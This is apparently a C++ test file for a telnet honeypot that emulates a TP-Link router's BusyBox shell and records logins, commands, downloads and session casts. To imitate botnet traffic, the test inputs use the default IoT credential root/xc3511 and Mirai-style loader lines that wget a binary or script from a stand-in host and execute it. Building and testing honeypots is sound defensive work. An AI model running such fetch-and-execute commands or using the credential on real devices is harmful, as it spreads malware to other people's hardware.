// The telnet honeypot as it runs: TelnetService on a real SessionServer on loopback, a plain
// socket client, events through the Collector.

#include <chrono>
#include <filesystem>
#include <thread>

#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include "honeypot/session/cast_reader.h"
#include "honeypot/telnet/telnet_service.h"
#include "support/base64_decode.h"
#include "support/recording_collector.h"

namespace kansoku::honeypot {
namespace {

namespace asio = boost::asio;

class Client {
public:
    explicit Client(uint16_t port) {
        fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
        sockaddr_in address{};
        address.sin_family = AF_INET;
        address.sin_port = htons(port);
        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        timeval timeout{5, 0};
        setsockopt(fd_, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof(timeout));
        if (::connect(fd_, reinterpret_cast<sockaddr*>(&address), sizeof(address)) != 0) {
            throw std::runtime_error("connect failed");
        }
    }
    ~Client() { ::close(fd_); }

    void send(std::string_view text) { ASSERT_EQ(::send(fd_, text.data(), text.size(), 0), ssize_t(text.size())); }

    /// Reads until `marker` has been seen (or the connection closes / 5 s pass); returns all read.
    std::string readUntil(std::string_view marker) {
        while (seen_.find(marker) == std::string::npos) {
            char buffer[4096];
            const ssize_t n = ::recv(fd_, buffer, sizeof(buffer), 0);
            if (n <= 0) {
                break;
            }
            seen_.append(buffer, static_cast<size_t>(n));
        }
        std::string out;
        out.swap(seen_);
        return out;
    }

private:
    int fd_ = -1;
    std::string seen_;
};

class TelnetServiceTest : public ::testing::Test {
protected:
    TelnetServiceTest() { options_.failure_delay = std::chrono::milliseconds(300); }

    void SetUp() override {
        auto persona =
            shell::Persona::load(std::string(KANSOKU_SOURCE_DIR) + "/rules/personas/tplink-wr841n-mips.toml");
        ASSERT_TRUE(persona) << persona.error().message;
        auto policy =
            std::make_shared<const telnet::AcceptListedPolicy>(std::vector<telnet::Credential>{{"root", "xc3511"}});
        service_ = std::make_unique<telnet::TelnetService>(
            collector_, std::make_shared<const shell::Persona>(std::move(*persona)), policy, options_);
        server::ServerConfig config;
        config.service = "telnet";
        server_ = std::make_unique<server::SessionServer>(io_, config, service_->factory(), sink_);
        ASSERT_TRUE(server_->start());
        thread_ = std::thread([this] { io_.run(); });
    }

    /// Stops the server and waits for the io_context: afterwards the collector is complete.
    void stop() {
        asio::post(io_, [this] { server_->stop(); });
        thread_.join();
    }

    void TearDown() override {
        if (thread_.joinable()) {
            stop();
        }
    }

    telnet::TelnetServiceOptions options_;
    asio::io_context io_;
    testing::RecordingCollector collector_;
    CollectingSink sink_;
    std::unique_ptr<telnet::TelnetService> service_;
    std::unique_ptr<server::SessionServer> server_;
    std::thread thread_;
};

TEST_F(TelnetServiceTest, LoginShellAndLoaderLikeABusyBoxRouter) {
    {
        Client client(server_->localPort());
        EXPECT_NE(client.readUntil("login: ").find("TL-WR841N login: "), std::string::npos);
        client.send("root\r\n");
        client.readUntil("Password: ");
        client.send("admin\r\n");
        EXPECT_NE(client.readUntil("login: ").find("Login incorrect"), std::string::npos);
        client.send("root\r\n");
        client.readUntil("Password: ");
        client.send("xc3511\r\n");
        EXPECT_NE(client.readUntil("# ").find("built-in shell (ash)"), std::string::npos);
        client.send("/bin/busybox ECCHI\r\n");
        EXPECT_NE(client.readUntil("# ").find("ECCHI: applet not found\r\n"), std::string::npos);
        client.send("cd /tmp; wget http://192.0.2.9/bins/x.mips; echo -ne '\\x7fELF' > .y; ./.y\r\n");
        client.readUntil("# ");
        client.send("exit\r\n");
        client.readUntil("never");
    }
    stop();
    const auto logins = collector_.ofType("honeypot.login");
    ASSERT_EQ(logins.size(), 2u);
    EXPECT_EQ(logins[0].fields["success"], false);
    EXPECT_EQ(logins[1].fields["password"], "xc3511");
    EXPECT_EQ(logins[1].fields["success"], true);
    EXPECT_EQ(logins[1].fields["protocol"], "telnet");
    EXPECT_EQ(collector_.ofType("honeypot.connect").size(), 1u);
    EXPECT_EQ(collector_.ofType("honeypot.command").size(), 3u);
    ASSERT_EQ(collector_.downloads().size(), 1u);
    EXPECT_EQ(collector_.downloads()[0].url, "http://192.0.2.9/bins/x.mips");
    ASSERT_EQ(collector_.files().size(), 1u);
    EXPECT_EQ(collector_.files()[0].content, "\x7f"
                                             "ELF");
    const std::string session = logins[0].fields["session"];
    EXPECT_EQ(collector_.files()[0].session, session);
    ASSERT_EQ(sink_.events.size(), 1u);
    EXPECT_EQ(sink_.events[0].type, "honeypot.session");
    EXPECT_EQ(sink_.events[0].fields["session"], session);
}

// Issue 10: attacker bytes that are not UTF-8 (no telnet IAC 0xff among them) reach the events
// losslessly: the field is valid UTF-8 and `<field>_b64` holds exactly the bytes sent.
TEST_F(TelnetServiceTest, BytesThatAreNotUtf8AreKeptExactlyInB64Fields) {
    const std::string username = "\xfe\x80"
                                 "admin";
    const std::string password = "pass\xc3";
    const std::string command = "echo \x80 \xc3\x28";
    {
        Client client(server_->localPort());
        client.readUntil("login: ");
        // Each line, then the prompt that follows it: a failed login, a good one, the command.
        const std::vector<std::pair<std::string, std::string>> steps{{username, "Password: "}, {password, "login: "},
                                                                     {"root", "Password: "},   {"xc3511", "# "},
                                                                     {command, "# "},          {"exit", "never"}};
        for (const auto& [line, prompt] : steps) {
            client.send(line + "\r\n");
            client.readUntil(prompt);
        }
    }
    stop();
    const auto logins = collector_.ofType("honeypot.login");
    ASSERT_EQ(logins.size(), 2u);
    const auto& failed = logins[0].fields;
    EXPECT_EQ(failed["username"], "\xEF\xBF\xBD\xEF\xBF\xBD"
                                  "admin");
    EXPECT_EQ(kansoku::testing::base64Decode(failed["username_b64"].get<std::string>()), username);
    EXPECT_EQ(kansoku::testing::base64Decode(failed["password_b64"].get<std::string>()), password);
    EXPECT_FALSE(logins[1].fields.contains("username_b64")); // "root" is UTF-8: no copy
    const auto commands = collector_.ofType("honeypot.command");
    ASSERT_GE(commands.size(), 1u);
    const auto& line = commands[0].fields;
    EXPECT_EQ(line["input"], "echo \xEF\xBF\xBD \xEF\xBF\xBD(");
    EXPECT_EQ(kansoku::testing::base64Decode(line["input_b64"].get<std::string>()), command);
    for (const auto& event : collector_.ofType("honeypot.login")) {
        EXPECT_NO_THROW((void)event.toJson().dump()); // strict: every string is valid UTF-8
    }
}

TEST_F(TelnetServiceTest, PausesBeforeLoginIncorrectLikeBusyBox) {
    Client client(server_->localPort());
    client.readUntil("login: ");
    client.send("root\r\n");
    client.readUntil("Password: ");
    const auto sent = std::chrono::steady_clock::now();
    client.send("wrong\r\n");
    const std::string answer = client.readUntil("login: ");
    const auto waited = std::chrono::steady_clock::now() - sent;
    EXPECT_NE(answer.find("Login incorrect"), std::string::npos) << answer;
    EXPECT_GE(waited, std::chrono::milliseconds(280));
    EXPECT_LT(waited, std::chrono::milliseconds(3000));
    // Input sent during the pause is not lost: the next username is read once the prompt is out.
    client.send("root\r\n");
    EXPECT_NE(client.readUntil("Password: ").find("Password: "), std::string::npos);
}

TEST_F(TelnetServiceTest, AttemptsCountAcrossConnectionsOfASource) {
    for (int i = 0; i < 2; ++i) {
        Client client(server_->localPort());
        client.readUntil("login: ");
        client.send("admin\r\n");
        client.readUntil("Password: ");
        client.send("admin\r\n");
        client.readUntil("login: ");
    }
    stop(); // every session has closed (by the client or by the stop), so both were counted
    EXPECT_EQ(service_->attempts().prior("127.0.0.1"), 2u);
}

/// Downloads that the shell waits for, and the session's recording (issue 17 items 1 and 3).
class TelnetWaitTest : public TelnetServiceTest {
protected:
    TelnetWaitTest() {
        std::filesystem::create_directories(casts_);
        options_.cast.dir = casts_.string();
        options_.download_wait = std::chrono::seconds(5);
        collector_.serve("http://192.0.2.9/x.sh", "echo fetched-and-run\n");
    }
    ~TelnetWaitTest() override { std::filesystem::remove_all(casts_); }

    std::string login(Client& client) {
        client.readUntil("login: ");
        client.send("root\r\n");
        client.readUntil("Password: ");
        client.send("xc3511\r\n");
        return client.readUntil("# ");
    }

    std::filesystem::path casts_ =
        std::filesystem::temp_directory_path() / ("kansoku-casts-" + std::to_string(::getpid()) + "-" +
                                                  ::testing::UnitTest::GetInstance()->current_test_info()->name());
};

TEST_F(TelnetWaitTest, WgetReturnsWithTheFetchedFileAndTypedAheadLinesRunAfter) {
    {
        Client client(server_->localPort());
        login(client);
        client.send("cd /tmp; wget http://192.0.2.9/x.sh -O x.sh; sh x.sh\r\necho typed-ahead\r\n");
        std::this_thread::sleep_for(std::chrono::milliseconds(200)); // the line waits for its fetch
        asio::post(io_, [this] { EXPECT_EQ(collector_.completeFetches(), 1u); });
        // The echo of the typed-ahead line comes at once; its output ("# " then "typed-ahead") only
        // after the waiting line has run.
        const std::string out = client.readUntil("# typed-ahead\r\n");
        const size_t ran = out.find("fetched-and-run\r\n");
        ASSERT_NE(ran, std::string::npos) << out; // `sh x.sh` right after wget ran the fetched bytes
        EXPECT_LT(ran, out.rfind("# typed-ahead\r\n")) << out;
        client.send("exit\r\n");
        client.readUntil("never");
    }
    stop();
    EXPECT_EQ(service_->shellCounters().download_waits, 1u);
    EXPECT_EQ(service_->shellCounters().download_wait_timeouts, 0u);
    EXPECT_EQ(collector_.downloads().size(), 1u);
    // Recorded: one cast, output and input, the fetched script's output in it.
    EXPECT_EQ(service_->castCounters().casts, 1u);
    const auto sessions = collector_.ofType("honeypot.connect");
    ASSERT_EQ(sessions.size(), 1u);
    const std::string id = sessions[0].fields.value("session", "");
    auto cast = readCast((casts_ / (id + ".cast")).string());
    ASSERT_TRUE(cast.has_value()) << cast.error().message;
    std::string shown;
    bool typed = false;
    for (const auto& event : cast->events) {
        if (event.kind == 'o') {
            shown += event.data;
        }
        typed = typed || (event.kind == 'i' && event.data.find("xc3511") != std::string::npos);
    }
    EXPECT_TRUE(typed);
    EXPECT_NE(shown.find("TL-WR841N login: "), std::string::npos) << shown;
    EXPECT_NE(shown.find("fetched-and-run\r\n"), std::string::npos) << shown;
    EXPECT_EQ(shown.find('\xff'), std::string::npos) << "no telnet negotiation in the recording";
}

class TelnetShortWaitTest : public TelnetWaitTest {
protected:
    TelnetShortWaitTest() { options_.download_wait = std::chrono::milliseconds(300); }
};

TEST_F(TelnetShortWaitTest, AFetchThatDoesNotEndInTimeLeavesAnEmptyFileAndIsCounted) {
    {
        Client client(server_->localPort());
        login(client);
        const auto start = std::chrono::steady_clock::now();
        client.send("cd /tmp; wget http://192.0.2.9/slow -O s; ls -l s\r\n");
        const std::string out = client.readUntil("# ");
        EXPECT_GE(std::chrono::steady_clock::now() - start, std::chrono::milliseconds(250));
        EXPECT_NE(out.find(" 0 "), std::string::npos) << out; // the placeholder, empty
        client.send("exit\r\n");
        client.readUntil("never");
    }
    stop();
    EXPECT_EQ(service_->shellCounters().download_wait_timeouts, 1u);
}

} // namespace
} // namespace kansoku::honeypot
